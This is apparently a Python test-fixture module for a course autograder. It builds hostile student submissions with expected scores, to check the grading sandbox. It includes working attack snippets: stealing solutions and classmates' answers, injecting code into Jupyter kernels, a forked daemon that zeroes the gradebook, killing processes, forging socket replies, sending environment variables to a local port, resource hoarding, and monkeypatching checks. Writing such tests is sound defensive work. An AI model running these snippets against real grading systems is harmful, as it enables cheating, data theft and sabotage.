"""A class of hostile and broken submissions for one chapter, with the points each earned.

Every fixture is the chapter's release with some answers filled in (or the file mangled),
plus the score each graded code cell must receive. Expected scores of ordinary answers
come from running the tests in-process with :func:`genai_course.course.exercises.run_exercise`;
a hostile exercise (one that loops, crashes, floods memory or fakes its result) earns
nothing, and nothing it does may change the grades of the other exercises.

:func:`attack_class` adds the attacks of a determined student on the operating system
(issue 12's table, our own versions): stealing the solutions or a classmate's answers,
hijacking the grading kernel, a daemon that rewrites the gradebook later, writing to the
package and the course files, killing classmates' processes, forged replies on the sandbox
connection, printing secrets, hoarding processes, memory and disk, and copying the
package's function before ``package_disabled``. Each one knows the exact paths of the
course (``COURSE_ROOT``, filled in by :func:`write_class`) and of the checkout; with the
sandbox working, each earns exactly what its honest part earns. The attacks that write or
kill only touch this course, this checkout, and processes carrying :data:`MARKER_ENV`, so a
broken sandbox fails the tests without harming anything else on the machine.
"""

from __future__ import annotations

import copy
import importlib
import json
import re
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from genai_course.course import exercises
from genai_course.course.nbgrader_plugins import exported_names, is_answer
from genai_course.course.sample_class import ChapterNotebooks

ROOT = Path(__file__).resolve().parents[1]
COURSE_ROOT = "@@COURSE_ROOT@@"  # replaced by the course folder in write_class
MARKER_ENV = "GENAI_COURSE_TEST_MARKER"  # the grading processes of this test carry it


@dataclass
class Fixture:
    student: str
    content: bytes | None  # the submitted file; None: the folder holds no notebook
    expected: dict[str, float]  # grade_id of each autograded code cell -> points
    status: str  # the status line grade() must give
    note: str = ""  # a regular expression the status notes must match
    extra: dict = field(default_factory=dict)


def _wrap(answer: str, name: str, statement: str) -> str:
    """``answer``, then ``name`` redefined to run ``statement`` before the real one."""
    body = "\n".join("    " + ln for ln in statement.strip().splitlines())
    return (f"{answer}\n\n_real_{name} = {name}\n\n"
            f"def {name}(*args, **kwargs):\n{body}\n    return _real_{name}(*args, **kwargs)\n")


HOSTILE = {
    "infinite_loop": ("while True:\n    pass", "timed out"),
    "swallows_interrupt": (
        "import time\nwhile True:\n    try:\n        time.sleep(0.01)\n"
        "    except KeyboardInterrupt:\n        pass", "timed out"),
    "os_exit": ("import os\nos._exit(3)", "crashed its Python process"),
    "segfault": ("import ctypes\nctypes.string_at(0)", "crashed its Python process"),
    "memory_blowup": ("import numpy\nblob = numpy.ones(2**30)", "ran out of memory"),
}


class Chapter(ChapterNotebooks):
    """The notebooks, exercises, wrong answers and expected scores of one chapter."""

    def __init__(self, chapter: str):
        super().__init__(ROOT, chapter)
        self.wrong = importlib.import_module(f"tests.wrong_answers.ch{chapter}").WRONG_ANSWERS

    def points(self, name: str, answer: str | None) -> dict[str, float]:
        """Points each test cell of exercise ``name`` gives ``answer`` (None: nothing),
        judged in-process after the solved answers of the other exercises, earlier ones it
        builds on replaced by the reference answers as in grading."""
        ex = self.exercises[name]
        if answer is None:
            return {gid: 0.0 for gid in ex.tests}
        setup = "\n".join([self.setup, *self.answers.values(), answer])
        results = exercises.run_exercise(setup, ex.tests, self.answers)
        return {gid: ex.test_points[gid] if results[gid] is None else 0.0 for gid in ex.tests}

    def fixture(self, student: str, answers: dict[str, str], status: str = "graded",
                note: str = "", edit=None, scored: dict[str, str | None] | None = None
                ) -> Fixture:
        """``answers`` go in the notebook; ``scored`` (default: the same) says what each
        exercise's tests should be judged on (None: earns nothing)."""
        scored = answers if scored is None else scored
        expected: dict[str, float] = {}
        for name in self.order:
            expected.update(self.points(name, scored.get(name)))
        return Fixture(student, self.notebook(answers, edit), expected, status, note)


def hostile_class(chapter: str, other_chapter: str) -> list[Fixture]:
    """22 broken and hostile submissions (see the module docstring)."""
    ch = Chapter(chapter)
    solved = dict(ch.answers)
    first = ch.order[0]
    fname = exported_names(ch.stubs[first])[0]
    wrong_first = {name: next(iter(ch.wrong[name].values())) for name in ch.order}
    half = {name: solved[name] for name in ch.order[: len(ch.order) // 2]}
    fixtures = [
        ch.fixture("correct", {**solved, **ch.written}),
        ch.fixture("untouched", {}),
        ch.fixture("partial", half),
        ch.fixture("common_mistakes", wrong_first),
    ]
    for label, (statement, note) in HOSTILE.items():
        answers = {**solved, first: _wrap(solved[first], fname, statement)}
        fixtures.append(ch.fixture(label, answers, "problems", note,
                                   scored={**solved, first: None}))
    flood = {**solved, first: _wrap(solved[first], fname, "print('spam ' * 1_000_000)")}
    fixtures.append(ch.fixture("floods_output", flood, scored=solved))
    fixtures[-1].extra["max_notebook_bytes"] = 2_000_000

    def drop_tests(nb):
        nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")
                    or is_answer(c)]

    def duplicate_test(nb):
        i = next(i for i, c in enumerate(nb.cells)
                 if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith(first + "__"))
        nb.cells.insert(i, copy.deepcopy(nb.cells[i]))

    def weaken_tests(nb):
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade") and not is_answer(c):
                c.source = "assert True  # tests? what tests?"

    fixtures.append(ch.fixture("deleted_test_cells", solved, edit=drop_tests))
    fixtures.append(ch.fixture("duplicated_test_cell", solved, edit=duplicate_test))
    fixtures.append(ch.fixture("weakened_tests", {}, edit=weaken_tests))

    patch_everything = f"""
import builtins, numpy, torch
import genai_course.grading as _g
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
for _name in ("check_tensor", "check_float", "check_type", "check_dict"):
    setattr(_g, _name, lambda *a, **k: None)
builtins.AssertionError = type("NeverRaised", (Exception,), {{}})
try:
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
    get_ipython().showtraceback = lambda *a, **k: None
except NameError:
    pass
check_tensor = check_float = check_type = check_dict = lambda *a, **k: None
{wrong_first[first]}
"""
    fixtures.append(ch.fixture("monkeypatches_checks", {**wrong_first, first: patch_everything},
                               scored={**wrong_first, first: None}))

    def extra_patch_cell(nb):
        nb.cells.insert(0, nbformat.v4.new_code_cell(patch_everything))

    fixtures.append(ch.fixture("extra_patching_cell", wrong_first, edit=extra_patch_cell))
    always_equal = _wrap(solved[first], fname, """
class AlwaysEqual:
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __getattr__(self, name):
        return lambda *a, **k: self
return AlwaysEqual()""")
    fixtures.append(ch.fixture("always_equal", {**solved, first: always_equal}, "graded",
                               scored={**solved, first: None}))
    package = next(((name, src) for name in ch.order for label, src in ch.wrong[name].items()
                    if "package" in label), None)
    if package is None:
        raise ValueError(f"tests/wrong_answers/ch{chapter}.py needs a 'calls the package' answer")
    fixtures.append(ch.fixture("calls_the_package", {**solved, package[0]: package[1]}))
    fixtures.append(ch.fixture("exits_at_top_level", {**solved, first: "import os\nos._exit(0)"},
                               "problems", "crashed its Python process",
                               scored={**solved, first: None}))

    def drop_first_answer(nb):
        nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != first]

    fixtures.append(ch.fixture("deleted_answer_cell", solved, "problems", "answer cells missing",
                               edit=drop_first_answer, scored={**solved, first: None}))
    zero = {gid: 0.0 for f in fixtures[:1] for gid in f.expected}
    fixtures.append(Fixture("not_json", b'{"cells": [ this is not a notebook', zero, "malformed",
                            "not a valid notebook"))
    other = (ROOT / "solutions" / other_chapter / f"{other_chapter}.ipynb").read_bytes()
    fixtures.append(Fixture("other_chapter", other, zero, "problems", "no answer cells"))
    fixtures.append(Fixture("empty_folder", None, zero, "missing", "nothing submitted"))
    return fixtures


def right_answers(chapter: str) -> dict[str, dict[str, str]]:
    """The chapter's catalogue of alternative correct answers (tests/right_answers)."""
    try:
        return importlib.import_module(f"tests.right_answers.ch{chapter}").RIGHT_ANSWERS
    except ModuleNotFoundError:
        return {}


def small_class(chapter: str) -> list[Fixture]:
    """What every chapter's grading must get right: a correct, an untouched and a mistaken
    submission; where an exercise builds on an earlier one (``reference_answers``), a
    submission whose earlier answer is wrong and later one right, which must lose the points
    of the earlier exercise only; and the catalogue's alternative correct answers (the first
    alternative of every exercise in one submission, the second in another), which earn full
    points."""
    ch = Chapter(chapter)
    wrong_first = {name: next(iter(ch.wrong[name].values())) for name in ch.order}
    fixtures = [ch.fixture("correct", {**ch.answers, **ch.written}), ch.fixture("untouched", {}),
                ch.fixture("common_mistakes", wrong_first)]
    earlier = {gid for ex in ch.exercises.values() for source in ex.tests.values()
               for gid in re.findall(r'reference_answers\(\w+="(\w+)"\)', source)}
    if earlier:
        fixtures.append(ch.fixture("builds_on_a_wrong_answer",
                                   {**ch.answers, **{g: wrong_first[g] for g in earlier}}))
    catalogue = right_answers(chapter)
    for i in range(2):
        answers = {name: list(catalogue[name].values())[i] for name in ch.order
                   if len(catalogue.get(name, {})) > i}
        if answers:
            fixtures.append(ch.fixture(f"right_answers_{i + 1}", {**ch.answers, **answers}))
    return fixtures


def write_class(root: Path, chapter: str, fixtures: list[Fixture]) -> None:
    """Put each fixture in ``submitted/<student>/<chapter>/`` with a timestamp."""
    for f in fixtures:
        folder = root / "submitted" / f.student / chapter
        folder.mkdir(parents=True, exist_ok=True)
        if f.content is not None:
            content = f.content.replace(COURSE_ROOT.encode(), json.dumps(str(root))[1:-1].encode())
            (folder / f"{chapter}.ipynb").write_bytes(content)
        (folder / "timestamp.txt").write_text("2026-11-01 12:00:00.000000 UTC")


def as_json(fixtures: list[Fixture]) -> str:
    return json.dumps({f.student: f.expected for f in fixtures}, indent=1, sort_keys=True)


# -- attacks on the operating system (see the module docstring) --------------------------------
STEAL = """
def _steal(grade_id):
    import glob, json, os
    import genai_course
    starts = {os.getcwd(), os.path.dirname(os.path.dirname(genai_course.__file__)),
              os.environ.get("HOME", "/"), "/tmp", "COURSE_ROOT"}
    for start in starts:
        folder = start
        for _ in range(8):
            for pattern in ("solutions/*/*.ipynb", "submitted/*/*/*.ipynb",
                            "*/solutions/*/*.ipynb", "*/submitted/*/*/*.ipynb"):
                for path in glob.glob(os.path.join(folder, pattern)):
                    try:
                        cells = json.load(open(path))["cells"]
                    except Exception:
                        continue
                    for cell in cells:
                        source = "".join(cell.get("source", ""))
                        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                        if gid == grade_id and "NotImplementedError" not in source \\
                                and "_steal" not in source:
                            exec(source, globals())
                            return
            folder = os.path.dirname(folder)


_steal(GRADE_ID)
"""

HIJACK = """
def _hijack():
    import glob, os
    payload = (
        "import genai_course.grading as g\\n"
        "for n in ('check_tensor', 'check_float', 'check_type', 'check_dict'):\\n"
        "    setattr(g, n, lambda *a, **k: None)\\n"
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\\n")
    files = []
    try:
        args = open(f"/proc/{os.getppid()}/cmdline").read().split("\\0")
        files += [a for a in args if a.endswith(".json")]
    except OSError:
        pass
    runtime = os.environ.get("JUPYTER_RUNTIME_DIR")  # this test's kernels only
    if runtime:
        files += glob.glob(os.path.join(runtime, "kernel-*.json"))
    try:
        from jupyter_client import BlockingKernelClient
    except ImportError:
        return
    for path in files:
        try:
            client = BlockingKernelClient()
            client.load_connection_file(path)
            client.start_channels()
            client.execute(payload)
            client.stop_channels()
        except Exception:
            pass


_hijack()
"""

GRADEBOOK_DAEMON = """
def _daemon():
    import os, sqlite3, time
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    deadline = time.time() + 240
    while time.time() < deadline:
        try:
            db = sqlite3.connect(os.path.join("COURSE_ROOT", "gradebook.db"), timeout=1)
            db.execute("update grade set manual_score = 0")
            db.commit()
            db.close()
        except Exception:
            pass
        time.sleep(0.2)
    os._exit(0)


_daemon()
"""

VANDALISE = """
def _vandalise():
    import glob, os
    targets = [os.path.join("CHECKOUT", "genai_course", "grading.py"),
               os.path.join("CHECKOUT", "genai_course", "__init__.py"),
               os.path.join("COURSE_ROOT", "nbgrader_config.py"),
               os.path.join("COURSE_ROOT", "gradebook.db")]
    targets += glob.glob(os.path.join("CHECKOUT", "genai_course", "__pycache__", "*.pyc"))
    targets += glob.glob(os.path.join("COURSE_ROOT", "chapters", "*", "*.ipynb"))
    targets += glob.glob(os.path.join("COURSE_ROOT", "solutions", "*", "*.ipynb"))
    import genai_course, genai_course.grading
    targets += [genai_course.grading.__file__, genai_course.__file__]
    for target in targets:
        try:
            with open(target, "a") as handle:
                handle.write("\\n# written by a student's code\\n")
        except OSError:
            pass


_vandalise()
"""

KILLER = """
def _killer():
    import os, signal, time
    if os.fork():
        return
    os.setsid()
    deadline = time.time() + 240
    while time.time() < deadline:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    if b"MARKER_ENV" in open(f"/proc/{entry}/environ", "rb").read():
                        os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.1)
    os._exit(0)


_killer()
"""

FORGE = """
import json as _json, os as _os, stat as _stat, struct as _struct, sys as _sys
_frame, _rid = _sys._getframe(), 0
while _frame is not None:
    if "request_id" in _frame.f_locals:
        _rid = _frame.f_locals["request_id"]
        break
    _frame = _frame.f_back
_blob = bytes(4 * 2**20)
_tree = {"tuple": [{"int": str(_rid)}, "ok", {"list": [{"bytes": 0}] * 150}, ""]}
_header = _json.dumps({"v": _tree, "sizes": [len(_blob)]}).encode()
_message = _struct.pack("<Q", len(_header)) + _header + _blob
for _fd in range(3, 64):
    try:
        if _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            _os.write(_fd, _struct.pack("!i", len(_message)) + _message)
    except OSError:
        pass
"""

SECRETS = """
import os as _os
print("environment:", dict(_os.environ))
for _path in ("COURSE_ROOT/gradebook.db", "COURSE_ROOT/solutions", "COURSE_ROOT/submitted"):
    try:
        print(_path, _os.listdir(_path) if _os.path.isdir(_path) else open(_path, "rb").read(300))
    except OSError as _exc:
        print(_path, _exc)
try:
    import socket as _socket
    _s = _socket.create_connection(("127.0.0.1", 8888), timeout=1)
    _s.sendall(repr(dict(_os.environ)).encode())
except OSError as _exc:
    print("network:", _exc)
for _i in range(1000):
    print("spam line", _i)
"""

HOARD = """
import os as _os, subprocess as _subprocess, time as _time
for _ in range(3):
    if _os.fork() == 0:
        import numpy
        _keep = numpy.ones(450 * 2**20 // 8)
        _time.sleep(120)
        _os._exit(0)
for _ in range(50):
    try:
        _subprocess.Popen(["sleep", "4242"], start_new_session=True)
    except OSError:
        break
try:
    with open("/tmp/hoard", "wb") as _handle:
        _handle.write(bytes(200 * 2**20))
except OSError:
    pass
_time.sleep(60)
"""

RESTORE = """
import sys as _sys, types as _types
_saved = {}
for _module in list(_sys.modules.values()):
    if getattr(_module, "__name__", "").startswith("genai_course"):
        for _value in list(vars(_module).values()):
            _found = [_value] + ([getattr(_value, a, None) for a in list(vars(_value))]
                                 if isinstance(_value, type) else [])
            for _function in _found:
                _function = getattr(_function, "__func__", _function)
                if isinstance(_function, _types.FunctionType):
                    _saved[_function] = _function.__code__


def _restore():
    for _function, _code in _saved.items():
        _function.__code__ = _code
"""


def _fill(code: str) -> str:
    return (code.replace("COURSE_ROOT", COURSE_ROOT).replace("CHECKOUT", str(ROOT))
            .replace("MARKER_ENV", MARKER_ENV))


def attack_class(chapter: str) -> list[Fixture]:
    """The attacks (module docstring): 9 submissions, each with the points it earns."""
    ch = Chapter(chapter)
    solved = dict(ch.answers)
    first = ch.order[0]
    fname = exported_names(ch.stubs[first])[0]
    wrong_first = {name: next(iter(ch.wrong[name].values())) for name in ch.order}
    package_ex, package_answer = next(
        (name, src) for name in ch.order for label, src in ch.wrong[name].items()
        if "package" in label)
    package_fn = exported_names(ch.stubs[package_ex])[0]
    steal = {name: ch.stubs[name] + "\n" + _fill(STEAL).replace("GRADE_ID", repr(name))
             for name in ch.order}
    with_first = {
        "talks_to_kernel": (wrong_first, _fill(HIJACK)),
        "rewrites_gradebook_later": (solved, _fill(GRADEBOOK_DAEMON)),
        "writes_package_and_course": (solved, _fill(VANDALISE)),
        "kills_classmates": (solved, _fill(KILLER)),
    }
    fixtures = [ch.fixture("steals_answers", steal, scored={})]
    for student, (answers, attack) in with_first.items():
        fixtures.append(ch.fixture(student, {**answers, first: answers[first] + "\n" + attack},
                                   scored=answers))
    forged = _wrap(solved[first], fname, _fill(FORGE))
    fixtures.append(ch.fixture("forges_replies", {**solved, first: forged}, "problems",
                               "broke the grading protocol", scored={**solved, first: None}))
    secrets = _wrap(solved[first], fname, _fill(SECRETS))
    fixtures.append(ch.fixture("prints_secrets", {**solved, first: secrets}, scored=solved))
    fixtures[-1].extra["max_output_lines"] = 12
    hoard = _wrap(solved[first], fname, _fill(HOARD))
    # killed for memory, or for time where allocating 1.35 GB takes longer than the limit
    fixtures.append(ch.fixture("hoards_resources", {**solved, first: hoard}, "problems",
                               "ran out of memory|timed out", scored={**solved, first: None}))
    copied = _fill(RESTORE) + _wrap(package_answer, package_fn, "_restore()")
    fixtures.append(ch.fixture("copies_package_function", {**solved, package_ex: copied},
                               scored={**solved, package_ex: package_answer}))
    return fixtures
